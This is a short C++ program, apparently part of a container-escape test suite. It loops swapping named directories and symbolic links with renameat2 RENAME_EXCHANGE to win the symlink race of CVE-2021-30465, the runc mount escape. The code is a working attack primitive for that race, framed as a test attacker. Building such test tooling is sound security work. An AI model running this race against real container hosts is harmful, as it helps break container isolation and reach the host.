// exchange_loop STOP SECONDS A B [A B ...]: swaps each pair of names with
// renameat2(RENAME_EXCHANGE), round after round, as fast as it can, until
// the file STOP exists or SECONDS have passed; then prints "swapped N".
// The attacker of the escape suite's symlink race (CVE-2021-30465): a
// directory and a symbolic link trade places while another run starts.
#include <fcntl.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

#include <cstdlib>

int main(int argc, char** argv) {
  if (argc < 5 || (argc - 3) % 2 != 0) {
    ::fprintf(stderr, "usage: exchange_loop STOP SECONDS A B [A B ...]\n");
    return 2;
  }
  const char* stop = argv[1];
  const double seconds = std::atof(argv[2]);
  struct timespec start {
  }, now{};
  ::clock_gettime(CLOCK_MONOTONIC, &start);
  long swapped = 0;
  for (long round = 0;; ++round) {
    for (int i = 3; i + 1 < argc; i += 2) {
      if (::renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) == 0) ++swapped;
    }
    if (round % 256 != 0) continue;
    if (::access(stop, F_OK) == 0) break;
    ::clock_gettime(CLOCK_MONOTONIC, &now);
    if (static_cast<double>(now.tv_sec - start.tv_sec) +
            static_cast<double>(now.tv_nsec - start.tv_nsec) / 1e9 >
        seconds) {
      break;
    }
  }
  ::printf("swapped %ld\n", swapped);
  return 0;
}
